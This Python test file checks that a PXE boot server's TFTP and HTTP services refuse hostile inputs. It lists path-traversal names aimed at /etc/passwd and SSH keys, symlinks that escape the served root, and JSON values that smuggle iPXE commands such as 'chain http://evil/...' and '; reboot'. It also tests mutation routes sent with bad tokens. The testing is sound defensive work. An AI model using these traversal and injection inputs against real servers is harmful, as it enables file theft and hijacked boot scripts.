"""Attack corpora: hostile TFTP names, HTTP paths and JSON bodies, and every mutation route
without its token. None may pass: no file outside a root is served, no injected text
reaches an iPXE script, no mutation happens unauthorised.

The TFTP names go through the real listener (fake UDP reactor) over a root holding
symlinks of every kind made here; HTTP goes through the real Klein app in memory
(``StubTreq``). ``tests/tftp/test_files.py`` and ``tests/http/test_loopback.py`` keep the
resolver-level and curl-over-loopback variants.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from treq.testing import StubTreq
from twisted.internet.address import IPv4Address
from twisted.web.resource import IResource, Resource

from pxetwist.tftp import packet
from pxetwist.tftp.files import FileRefusedError, FileResolver
from tests.http.helpers import BASE, MAC, Rig
from tests.http.helpers import make_rig as make_http_rig
from tests.ipxe_lines import commands, kernel_cmdline, script_lines
from tests.tftp.helpers import make_rig as make_tftp_rig

SECRET = b"TOP-SECRET-CONTENT"
MARKER = "PWNED"

# -- TFTP ---------------------------------------------------------------------------------

TFTP_NAMES = [
    # traversal
    "..", "../secret", "../../../../../../etc/passwd", "/../secret", "sub/../../secret",
    "sub/./../../secret", "a/b/../../../secret", "....//..//secret", "../root/ok.bin",
    # Windows separators, drives, UNC
    "..\\secret", "\\..\\..\\secret", "sub\\..\\..\\secret", "C:\\Windows\\win.ini",
    "C:..\\secret", "\\\\server\\share\\secret", "..\\/secret",
    # encodings that a careless decoder would turn into traversal
    "%2e%2e/secret", "..%2fsecret", "%2e%2e%2fsecret", "..%5csecret", "..%c0%afsecret",
    "..\xc0\xafsecret", "%252e%252e/secret", "\u2025/secret".encode().decode("latin-1"),
    # NUL
    "\0", "ok.bin\0../secret", "../secret\0ok.bin", "..\0/secret",
    # absolute
    "/etc/passwd", "//etc/passwd", "/proc/self/environ", "/dev/zero", "~/.ssh/id_rsa",
    # symlinks and non-regular files made in the root
    "link-abs", "link-rel", "link-dir/secret", "link-chain", "link-loop", "link-devnull",
    "link-etc", "sub/link-up", "fifo", "sub", ".", "/",
]


@pytest.fixture
def tftp_rig(tmp_path: Path) -> Any:
    rig = make_tftp_rig(tmp_path, {"ok.bin": b"fine", "sub/inner.txt": b"inner"})
    root = tmp_path / "root"
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "secret").write_bytes(SECRET)
    (outside / "secret").write_bytes(SECRET)
    (root / "link-abs").symlink_to(tmp_path / "secret")
    (root / "link-rel").symlink_to("../secret")
    (root / "link-dir").symlink_to(outside)
    (root / "link-hop").symlink_to("link-abs")
    (root / "link-chain").symlink_to("link-hop")
    (root / "link-loop").symlink_to("link-loop")
    (root / "link-devnull").symlink_to("/dev/null")
    (root / "link-etc").symlink_to("/etc/passwd")
    (root / "sub" / "link-up").symlink_to("../../secret")
    os.mkfifo(root / "fifo")
    return rig


def test_tftp_corpus_is_large_enough() -> None:
    """The issue asks for at least 30 hostile TFTP names."""
    assert len(set(TFTP_NAMES)) >= 30


@pytest.mark.parametrize("name", TFTP_NAMES)
def test_hostile_tftp_name_gets_an_error_and_no_data(tftp_rig: Any, name: str) -> None:
    """Each hostile RRQ is answered with ERROR 1 or 2 from port 69; no transfer starts,
    no descriptor stays open, nothing outside the root is read."""
    rig = tftp_rig
    data = packet.encode_request(packet.RRQ, name, "octet", {"tsize": "0"})
    rig.listener.deliver(data, ("10.0.0.5", 2000))
    replies = [packet.parse(d) for d, _ in rig.listener.take()]
    assert all(isinstance(reply, packet.Error) for reply in replies)
    if "\0" not in name:  # on the wire a NUL ends the name: the rest is malformed, dropped
        assert len(replies) == 1
        assert replies[0].code in (packet.ERR_NOT_FOUND, packet.ERR_ACCESS)  # type: ignore[union-attr]
    assert list(rig.reactor.ports) == [69]
    assert rig.resolver.open_descriptors == 0


@pytest.mark.parametrize("name", TFTP_NAMES)
def test_hostile_tftp_name_never_resolves_outside(tftp_rig: Any, name: str) -> None:
    """The resolver alone: refused, or (never) content that is the secret."""
    resolver: FileResolver = tftp_rig.resolver
    with pytest.raises(FileRefusedError) as info:
        resolver.open(name)
    assert info.value.code in (1, 2)


def test_windows_and_leading_separators_still_serve_inside_files(tftp_rig: Any) -> None:
    """Normalisation is not refusal: '/ok.bin', '\\sub\\inner.txt' are served from the root."""
    assert tftp_rig.resolver.open("/ok.bin").read(0, 10) == b"fine"
    assert tftp_rig.resolver.open("\\sub\\inner.txt").read(0, 10) == b"inner"


# -- HTTP paths ---------------------------------------------------------------------------

HTTP_PATHS = [
    "/files/../secret", "/files/..%2fsecret", "/files/..%2f..%2fsecret", "/files/%2e%2e/secret",
    "/files/%2e%2e%2f%2e%2e%2fsecret", "/files/..%5c..%5csecret", "/files/%252e%252e/secret",
    "/files/..%c0%afsecret", "/files/%00secret", "/files/ok.bin%00.txt", "/files/link-abs",
    "/files/link-rel", "/files/link-dir/secret", "/files/sub/link-up", "/files/%2fetc%2fpasswd",
    "/files//etc/passwd", "/files/C:%5cWindows%5cwin.ini", "/files/sub", "/files/",
    "/files/fifo", "/containers/lab/files/..%2f..%2fsecret", "/containers/lab/files/%2e%2e",
    "/containers/lab/files/%2fetc%2fpasswd", "/containers/lab/files/link-out",
    "/containers/lab/files/..%5c..%5csecret", "/containers/lab/files/sub%2f..%2f..%2fsecret",
    "/containers/..%2f..%2fsecret", "/containers/%2e%2e/files/secret",
    "/containers/lab/files/vmlinuz%00", "/ui/..%2f..%2f..%2fsecret", "/ui/%2e%2e/%2e%2e/secret",
    "/files/%u002e%u002e/secret", "/containers/lab%2f..%2f..%2fsecret/boot.ipxe",
]


@pytest.fixture
def http_rig(tmp_path: Path) -> Rig:
    rig = make_http_rig(tmp_path)
    root = tmp_path / "tftproot"
    (tmp_path / "secret").write_bytes(SECRET)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(SECRET)
    (root / "ok.bin").write_bytes(b"fine")
    (root / "sub").mkdir()
    (root / "link-abs").symlink_to(tmp_path / "secret")
    (root / "link-rel").symlink_to("../secret")
    (root / "link-dir").symlink_to(outside)
    (root / "sub" / "link-up").symlink_to("../../secret")
    os.mkfifo(root / "fifo")
    (tmp_path / "catalog" / "lab" / "link-out").symlink_to(tmp_path / "secret")
    return rig


def test_http_corpus_is_large_enough() -> None:
    """At least 30 hostile HTTP paths."""
    assert len(set(HTTP_PATHS)) >= 30


@pytest.mark.parametrize("path", HTTP_PATHS)
def test_hostile_http_path_is_refused(http_rig: Rig, path: str) -> None:
    """Traversal (plain, encoded, double-encoded, overlong UTF-8), NUL, absolute, Windows
    separators, symlinks out, directories and FIFOs: a 4xx, never the secret."""
    code, body, _ = http_rig.get(path)
    assert 400 <= code < 500, (path, code)
    assert SECRET not in body


def test_inside_files_are_still_served(http_rig: Rig) -> None:
    """The corpus's control: a plain file in the TFTP root is found (HEAD: in memory a GET's
    file producer needs the real reactor; tests/http/test_loopback.py fetches it)."""
    code, _, response = http_rig._do("HEAD", "/files/ok.bin")
    assert code == 200
    assert response.headers.getRawHeaders("content-length") == ["4"]


# -- JSON bodies --------------------------------------------------------------------------

INJECT = [
    f"{MARKER}\nshell", f"x\r\nchain http://evil/{MARKER}", f"${{{MARKER}}}", f"a && {MARKER}",
    f"a || {MARKER}", f"# {MARKER}", f"{MARKER}; reboot", f"$({MARKER})", f"`{MARKER}`",
    f"{MARKER}\u2028shell", f"{MARKER}\u0085shell", f"{MARKER}\x00", f"{MARKER}\x1b[2J",
    f"{MARKER}\tgoto", f"{MARKER}\x0bshell", f"{MARKER}\\nshell",
]

MENU_BODIES: list[Any] = [
    *({"label": text} for text in INJECT),
    *({"kernel_args": text} for text in INJECT),
    {"label": "x" * 81 + MARKER}, {"kernel_args": "console=ttyS0 " + MARKER * 300},
    {"label": 5}, {"label": None}, {"label": [MARKER]}, {"label": {"x": MARKER}},
    {"kernel_args": 7}, {"kernel_args": [MARKER]}, {"order": "1"}, {"order": 1.5},
    {"order": 10 ** 12}, {"order": True}, {"default": "true"}, {"default": 1},
    {"pxe": "yes"}, {"pxe": None}, {"colour": MARKER}, {"label": "ok", "x-" + MARKER: 1},
    b"[" * 60_000, b"{" + b" " * 70_000 + b"}", b'{"label": "' + b"x" * 70_000 + b'"}',
    b"not json", b"[1, 2]", b'"a string"', b"42", b"null", b"\xff\xfe{}",
    b'{"label": "ok", "label": "' + MARKER.encode() + b'\\nshell"}',
    b'{"label": "\\u0024{' + MARKER.encode() + b'}"}', b'{"label": NaN}',
]

ASSIGN_BODIES: list[Any] = [
    {}, {"entry": 5}, {"entry": ""}, {"entry": "x" * 300}, {"entry": f"lab\n{MARKER}"},
    {"entry": f"../../{MARKER}"}, {"entry": f"${{{MARKER}}}"}, {"entry": "lab", "once": "yes"},
    {"entry": "lab", "once": 1}, {"entry": ["lab"]}, {"entry": "lab", "extra": MARKER},
    b"null", b"[]", b"[" * 60_000, b"{" + b" " * 70_000 + b"}", b"\x80\x81",
]


def test_json_corpus_is_large_enough() -> None:
    """At least 30 hostile JSON bodies."""
    assert len(MENU_BODIES) + len(ASSIGN_BODIES) >= 30


def _scripts(rig: Rig) -> str:
    rig.put(f"/machines/{MAC}", {"entry": "lab", "once": False})
    texts = [rig.get(path)[1].decode("utf-8", "replace") for path in (
        "/pxe/menu.ipxe", "/containers/lab/boot.ipxe", f"/pxe/boot.ipxe?mac={MAC}",
        f"/api/v1/ipxe/boot.ipxe?mac={MAC}")]
    return "\n".join(texts)


@pytest.mark.parametrize("body", MENU_BODIES, ids=range(len(MENU_BODIES)))
def test_hostile_menu_body_is_400_and_reaches_no_script(http_rig: Rig, body: Any) -> None:
    """POST /pxe/lab/menu with injection, wrong types, oversized or nested bodies: 400 with
    a reason, the entry unchanged, and the marker in no iPXE script; kernel args iPXE can be
    given literally (``a; b``, ``$(x)``) are taken, and iPXE reads them back as the kernel's
    arguments exactly, never as a command of their own."""
    before = http_rig.catalog.view("lab").as_json()  # type: ignore[union-attr]
    code, answer, _ = http_rig.post("/pxe/lab/menu", body)
    if code == 200 and isinstance(body, dict) and list(body) == ["kernel_args"]:
        scripts = _scripts(http_rig)
        for line in script_lines(scripts):
            for argv in commands(line):
                assert argv[0] == "kernel" or MARKER not in " ".join(argv), argv
        lab = http_rig.get("/containers/lab/boot.ipxe")[1].decode()
        assert kernel_cmdline(lab).endswith(" " + body["kernel_args"])
        return
    assert code == 400 and json.loads(answer)["error"]
    assert http_rig.catalog.view("lab").as_json() == before  # type: ignore[union-attr]
    assert MARKER not in _scripts(http_rig)


@pytest.mark.parametrize("body", ASSIGN_BODIES, ids=range(len(ASSIGN_BODIES)))
def test_hostile_assignment_body_is_refused(http_rig: Rig, body: Any) -> None:
    """PUT /machines/{mac} with bad bodies: 400 (or 404 for a well-typed unknown entry);
    the machine is not assigned."""
    code, answer, _ = http_rig.put(f"/machines/{MAC}", body)
    assert code in (400, 404) and json.loads(answer)["error"]
    assert http_rig.machines.get(MAC) is None
    assert MARKER not in _scripts(http_rig)


def test_deeply_nested_json_is_400_not_500(http_rig: Rig) -> None:
    """Regression (fuzz_api_bodies.py finding): 60 000 nested '[' used to raise
    RecursionError out of the route (500, traceback); now a 400 with a reason."""
    code, answer, _ = http_rig.post("/pxe/lab/menu", b"[" * 60_000)
    assert code == 400 and "deep" in json.loads(answer)["error"]


# -- authorisation ------------------------------------------------------------------------

MUTATING = {"POST", "PUT", "PATCH", "DELETE"}
SAMPLES = {"entry_id": "lab", "mac_text": MAC, "name": "x", "path": "x"}


def mutation_routes(rig: Rig) -> list[tuple[str, str]]:
    """(method, path) of every route that changes state, read from the app's URL map, so a
    route added later is covered without editing this test."""
    routes = []
    for rule in rig.app.app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & MUTATING):
            path = rule.rule
            for argument in rule.arguments:
                path = path.replace(f"<{argument}>", SAMPLES.get(argument, "x"))
                path = path.replace(f"<path:{argument}>", SAMPLES.get(argument, "x"))
            routes.append((method, path))
    return routes


def test_every_mutation_route_is_found(tmp_path: Path) -> None:
    """The URL map yields at least the five mutation routes of SPEC section 5."""
    rig = make_http_rig(tmp_path)
    found = set(mutation_routes(rig))
    assert {("POST", "/pxe/lab/toggle"), ("POST", "/pxe/lab/menu"),
            ("POST", "/catalog/refresh"), ("PUT", f"/machines/{MAC}"),
            ("POST", f"/api/v1/machines/{MAC}/installed")} <= found


def test_every_mutation_route_without_the_token_is_401(tmp_path: Path) -> None:
    """With api_token set, no header, a wrong token, another scheme or an empty bearer:
    401 on every mutation route, and nothing changed."""
    rig = make_http_rig(tmp_path, "[http]\napi_token = s3cret-token\n")
    before = rig.catalog.view("lab").as_json()  # type: ignore[union-attr]
    bad_headers: list[dict[str, str]] = [
        {}, {"Authorization": "Bearer wrong"}, {"Authorization": "Basic s3cret-token"},
        {"Authorization": "Bearer "}, {"Authorization": "s3cret-token"},
        {"Authorization": "Bearer s3cret-token-and-more"}, {"X-Api-Token": "s3cret-token"},
    ]
    routes = mutation_routes(rig)
    for method, path in routes:
        for headers in bad_headers:
            code, _, _ = rig._do(method, path, body={"entry": "lab"}, headers=headers)
            assert code == 401, (method, path, headers, code)
    assert rig.catalog.view("lab").as_json() == before  # type: ignore[union-attr]
    assert rig.machines.get(MAC) is None


class _FromRemote(Resource):
    """Serves ``inner`` as if every request came from 10.77.0.50 (a machine on the LAN)."""

    isLeaf = True

    def __init__(self, inner: IResource) -> None:
        super().__init__()
        self.inner = inner

    def render(self, request: Any) -> Any:
        request.client = IPv4Address("TCP", "10.77.0.50", 40000)
        return self.inner.render(request)


def test_every_mutation_route_from_the_network_without_a_token_is_403(tmp_path: Path) -> None:
    """With no api_token, every mutation from a non-loopback client is 403; reads still
    work from there."""
    rig = make_http_rig(tmp_path)
    remote = StubTreq(_FromRemote(rig.app.resource()))
    rig.client = remote
    for method, path in mutation_routes(rig):
        code, _, _ = rig._do(method, path, body={"entry": "lab"})
        assert code == 403, (method, path, code)
    assert rig.machines.get(MAC) is None
    assert rig.get("/containers")[0] == 200
    assert BASE.startswith("http://")
